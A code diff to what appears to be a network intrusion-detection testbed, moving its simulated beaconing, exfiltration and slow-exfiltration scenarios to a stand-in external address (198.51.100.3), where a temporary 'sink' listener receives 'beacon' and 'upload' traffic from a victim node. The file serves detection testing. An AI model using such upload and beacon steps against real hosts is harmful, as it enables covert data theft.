@@ -25,10 +25,19 @@ _LONG_S = 34.0
 _ACTIVE_S = 8.0
 _LONGER_S = 30.0
 _STEADY_S = 36.0
+_ELSEWHERE = "198.51.100.3"
+"""A host outside that, unlike ``ext``'s own address, asks nothing of the guests."""
 
 
 def _attack(command: str, on: str = "X", target: str | None = "T", at_s: float = 0.5) -> Step:
     return Step(at_s, on, command, attack=True, target=target)
+
+
+def _elsewhere(port: str, seconds: float) -> Step:
+    """Somebody listens there, as long as the address is there."""
+    here = f"{_ELSEWHERE}/32 dev lo"
+    listening = program("sink", port, seconds=seconds)
+    return Step(0.1, "ext", f"ip address replace {here}; {listening}; ip address delete {here}")
 
 
 def _flood(name: str, options: str, paces: tuple[str, ...] = _PACES) -> Kind:
@@ -147,9 +156,9 @@ ATTACKS: tuple[Kind, ...] = (
         "beaconing",  # by counts no other than a program that asks for news: told, and blamed for nothing (0017)
         Family.VICTIM,
         (
-            Step(0.1, "ext", program("sink", "4443", seconds=_STEADY_S + _LONGER_S)),
+            _elsewhere("4443", _STEADY_S + _LONGER_S),
             # What begins as soon as it is watched may have gone on before.
-            Step(_STEADY_S, "X", program("beacon", "$ip_ext", "4443", "$choice", seconds=_LONGER_S - 2)),
+            Step(_STEADY_S, "X", program("beacon", _ELSEWHERE, "4443", "$choice", seconds=_LONGER_S - 2)),
         ),
         _TOLD,
         ("0.5", "2"),
@@ -159,8 +168,8 @@ ATTACKS: tuple[Kind, ...] = (
         "exfiltration",  # nor than a backup: held for a while, and told
         Family.VICTIM,
         (
-            Step(0.1, "ext", program("sink", "4444", seconds=_LONGER_S)),
-            Step(1.5, "X", program("upload", "$ip_ext", "4444", "$choice", seconds=_LONGER_S - 2)),
+            _elsewhere("4444", _LONGER_S),
+            Step(1.5, "X", program("upload", _ELSEWHERE, "4444", "$choice", seconds=_LONGER_S - 2)),
         ),
         _TOLD,
         ("500000", "5000000"),
@@ -170,8 +179,8 @@ ATTACKS: tuple[Kind, ...] = (
         "slow-exfiltration",  # a few times what it says anyhow: nothing can be seen of it
         Family.VICTIM,
         (
-            Step(0.1, "ext", program("sink", "4444", seconds=_LONGER_S)),
-            Step(1.5, "X", program("upload", "$ip_ext", "4444", "$choice", seconds=_LONGER_S - 2)),
+            _elsewhere("4444", _LONGER_S),
+            Step(1.5, "X", program("upload", _ELSEWHERE, "4444", "$choice", seconds=_LONGER_S - 2)),
         ),
         (INNOCENT, INNOCENT, INNOCENT),
         ("50000",),
